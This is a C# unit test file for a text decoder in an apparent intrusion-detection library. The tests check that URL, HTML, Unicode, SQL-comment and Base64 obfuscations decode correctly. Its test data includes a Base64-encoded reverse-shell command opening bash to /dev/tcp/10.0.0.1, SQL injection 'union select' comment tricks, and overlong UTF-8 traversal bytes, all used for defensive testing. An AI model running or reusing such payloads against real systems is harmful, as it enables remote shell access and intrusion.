using System.Text;
using NetSniff.Detection.Rules;
using NetSniff.Detection.Rules.Patterns;

namespace NetSniff.Tests.Detection.Rules.Patterns;

public class TextDecoderTests
{
    [Theory]
    [InlineData("URL", "plain", null)]
    [InlineData("URL", "a%20b+c%2fd", "a b c/d")]
    [InlineData("URL", "%", "%")]
    [InlineData("URL", "%4", "%4")]
    [InlineData("URL", "%zz%41", "%zzA")]
    [InlineData("URL", "%2541", "%41")]
    [InlineData("DoubleURL", "%2541%252f", "A/")]
    [InlineData("DoubleURL", "a%2Bb", "a b")]
    [InlineData("HTML", "a & b", null)]
    [InlineData("HTML", "&lt;script&gt;&#39;&#x27;&quot;", "<script>''\"")]
    [InlineData("HTML", "&#x110000;&#;&#x;&#99a;&", null)]
    [InlineData("HTML", "&amp;lt;", "&lt;")]
    [InlineData("HTML", "&#8217;", "’")]
    [InlineData("Unicode", "\\u0027 or %u0027 \\x27", "' or ' '")]
    [InlineData("Unicode", "\\u00", null)]
    [InlineData("Unicode", "ｓｅｌｅｃｔ", "select")]
    [InlineData("Unicode", "naïve café", null)]
    [InlineData("SQLComment", "union/**/select/*x", "union select ")]
    [InlineData("SQLComment", "/*!50000union*/ /*!select*/1", " union   select 1")]
    [InlineData("SQLComment", "a/b*c", null)]
    [InlineData("Base64", "c=YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMQ==&d", "c=bash -i >& /dev/tcp/10.0.0.1&d")]
    [InlineData("Base64", "/a/rather/long/path/of/words", null)]
    [InlineData("Base64", "short=YmFzaA==", null)]
    public void A_text_is_undone(string step, string text, string? expected)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var target = new byte[bytes.Length];
        var length = TextDecoder.Decode(Enum.Parse<DecodeStep>(step), bytes, target);
        Assert.Equal(expected, length < 0 ? null : Encoding.UTF8.GetString(target, 0, length));
    }

    [Fact]
    public void More_octets_than_needed_are_the_letter_they_stand_for()
    {
        byte[] text = [(byte)'.', (byte)'.', 0xc0, 0xaf, 0xc1, 0x9c, 0xc0];
        var target = new byte[text.Length];
        var length = TextDecoder.Decode(DecodeStep.Unicode, text, target);
        Assert.Equal([(byte)'.', (byte)'.', (byte)'/', (byte)'\\', 0xc0], target[..length]);
    }

    [Fact]
    public void Nothing_gets_longer_and_nothing_throws()
    {
        string[] words =
        [
            "%", "%2", "%25", "%u0027", "\\u", "\\x4", "&", "&#", "&#x", "&lt;", ";", "/*", "*/", "/*!5", "+", "=", "a",
            "YWJjZGVmZ2hpamtsbW5v", "é", "ｕ", "'", " ", "\0",
        ];
        var random = new Random(3);
        for (var turn = 0; turn < 20_000; turn++)
        {
            var text = new List<byte>();
            for (var part = random.Next(12); part >= 0; part--)
            {
                if (random.Next(4) == 0) text.Add((byte)random.Next(256));
                else text.AddRange(Encoding.UTF8.GetBytes(words[random.Next(words.Length)]));
            }

            foreach (var step in Enum.GetValues<DecodeStep>())
            {
                Assert.InRange(TextDecoder.Decode(step, [.. text], new byte[text.Count]), -1, text.Count);
            }
        }
    }
}
